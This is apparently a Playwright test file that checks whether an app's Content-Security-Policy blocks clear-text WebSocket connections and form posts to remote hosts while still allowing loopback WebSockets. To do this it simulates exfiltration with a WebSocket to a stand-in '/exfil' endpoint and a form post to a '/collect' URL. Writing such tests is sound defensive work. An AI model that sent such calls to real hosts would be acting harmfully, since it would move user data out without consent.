/**
 * The renderer's Content-Security-Policy as the browser enforces it (header from the browser host plus the
 * <meta> the build writes into index.html): an injected script cannot talk plain ws:// to a remote host nor
 * post a form anywhere, while ws:// to loopback (a local SIP proxy, the speech service) stays allowed.
 */
import { META_CONTENT_SECURITY_POLICY } from '../../common/contract/csp';
import { expect, test } from './fixtures/app';
import { appUi } from './support/ui';

test('the CSP blocks clear-text WebSockets to remote hosts and form posts, not loopback WebSockets', async ({ app }) => {
  const { page } = await app();
  await expect(appUi(page).status).toHaveText('Registered');
  await expect(page.locator('meta[http-equiv="Content-Security-Policy"]')).toHaveAttribute('content', META_CONTENT_SECURITY_POLICY);

  const violations = await page.evaluate(async () => {
    (window as unknown as { __sameDocument?: boolean }).__sameDocument = true;
    const seen: string[] = [];
    document.addEventListener('securitypolicyviolation', (event) => seen.push(`${event.effectiveDirective} ${event.blockedURI}`));
    const open = (url: string) => {
      try {
        new WebSocket(url).close();
      } catch (error) {
        seen.push(`threw ${url}: ${(error as Error).name}`);
      }
    };
    open('ws://198.51.100.7:8080/exfil');
    open('ws://127.0.0.1:9/local');
    const form = document.createElement('form');
    form.method = 'post';
    form.action = 'https://198.51.100.7/collect';
    document.body.append(form);
    form.submit();
    await new Promise((resolve) => setTimeout(resolve, 500));
    return seen;
  });
  expect(violations.some((v) => v.includes('198.51.100.7:8080'))).toBe(true);
  expect(violations.some((v) => v.startsWith('form-action'))).toBe(true);
  expect(violations.filter((v) => v.includes('127.0.0.1'))).toEqual([]);
  // Still the same document: the blocked form did not navigate away. (Read in-page: Playwright's locators
  // wait for the cancelled navigation to finish.)
  expect(await page.evaluate(() => (window as unknown as { __sameDocument?: boolean }).__sameDocument)).toBe(true);
});
